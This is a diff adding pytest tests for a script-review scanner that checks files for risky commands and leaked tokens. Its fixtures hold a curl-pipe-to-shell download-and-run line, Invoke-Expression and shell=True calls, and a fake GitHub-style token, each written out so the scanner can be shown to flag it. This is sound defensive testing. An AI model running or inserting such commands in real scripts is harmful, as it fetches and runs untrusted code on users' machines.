@@ -1,0 +1,88 @@
+"""Many files: what one of them does to its review costs only itself, and nobody's word is taken for what was reviewed."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from include.contracts.script_review import Looked
+from include.script_review.review import answer_unit
+from include.script_review.run import Files, review_files, review_paths
+from include.script_review.runner import InProcess, Outcome, Runner, Unit
+
+TOKEN = "gh" + "p_" + "k8Rz2mVq7LxN4tYw9BcD1fGh6JsP3uAe5XoZ"
+
+
+class Failing(InProcess):
+    """Fails for units with a file named so, unless they are only looked at as text."""
+
+    def __init__(self, name: str) -> None:
+        super().__init__(answer_unit)
+        self.name = name
+
+    def _outcomes(self, units: Iterator[Unit], count: Callable[[], None]) -> Iterator[Outcome]:
+        for unit, outcome in [(unit, next(iter(super(Failing, self)._outcomes(iter([unit]), count)))) for unit in units]:
+            bad = any(path.endswith(self.name) for path in unit.options["members"]) and unit.options["cut"] is None
+            yield Outcome(outcome.index, outcome.paths, None, "it took more than 20 seconds", 20.0) if bad else outcome
+
+
+class Lying(InProcess):
+    """Answers with what it is told to."""
+
+    def __init__(self, said: Any) -> None:
+        super().__init__(lambda files, options: said)
+
+
+def reviews(files: dict[str, bytes], runner: Runner) -> list[Any]:
+    return [one for found in review_files([lambda: Files(files, {})], runner=runner) for one in found]
+
+
+def test_a_file_that_takes_too_long_costs_only_itself_and_is_still_looked_at_for_secrets() -> None:
+    slow = f"$token = '{TOKEN}'\nInvoke-Expression $x\n".encode()
+    found = reviews({"a.ps1": b"Invoke-Expression $x\n", "slow.ps1": slow}, Failing("slow.ps1"))
+    good, bad = found
+    assert good.coverage.looked is Looked.FULL
+    assert "ps-invoke-expression" in {one.rule for one in good.findings}
+    assert bad.coverage.looked is Looked.TEXT
+    assert any("more than 20 seconds" in note for note in bad.coverage.notes)
+    assert {one.rule for one in bad.findings} == {"coverage-file", "secret-token-format"}
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        None,
+        [],
+        [{}],
+        3,
+        "x",
+        [{"path": "b.ps1", "language": "powershell", "digest": None, "coverage": {"looked": "full", "share": 1.0}}],
+    ],
+)
+def test_an_answer_that_is_none_or_about_another_file_is_no_review(said: Any) -> None:
+    (found,) = reviews({"a.ps1": b"Get-Date\n"}, Lying(said))
+    assert found.path == "a.ps1"
+    assert found.coverage.looked is Looked.NONE
+    assert [one.rule for one in found.findings] == ["coverage-file"]
+
+
+def test_a_folder_is_reviewed_in_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "a.ps1").write_text("Invoke-Expression $x\n")
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub/b.sh").write_text("curl -s https://example.com/i.sh | sh\n")
+    (tmp_path / "sub/c.py").write_text("import subprocess\nsubprocess.run(x, shell=True)\n")
+    (tmp_path / "data.bin").write_bytes(os.urandom(4_000))
+    seen: list[tuple[int, int | None]] = []
+    review = review_paths(["."], progress=lambda done, of: seen.append((done, of)))
+    by_path = {one.path: {finding.rule for finding in one.findings} for one in review.files}
+    assert set(by_path) == {"a.ps1", "data.bin", "sub/b.sh", "sub/c.py"}
+    assert "ps-invoke-expression" in by_path["a.ps1"]
+    assert "sh-download-run" in by_path["sub/b.sh"]
+    assert any(rule.startswith("ruff-S60") for rule in by_path["sub/c.py"])
+    assert review.summary.files == 4
+    assert seen[-1][0] == seen[-1][1]
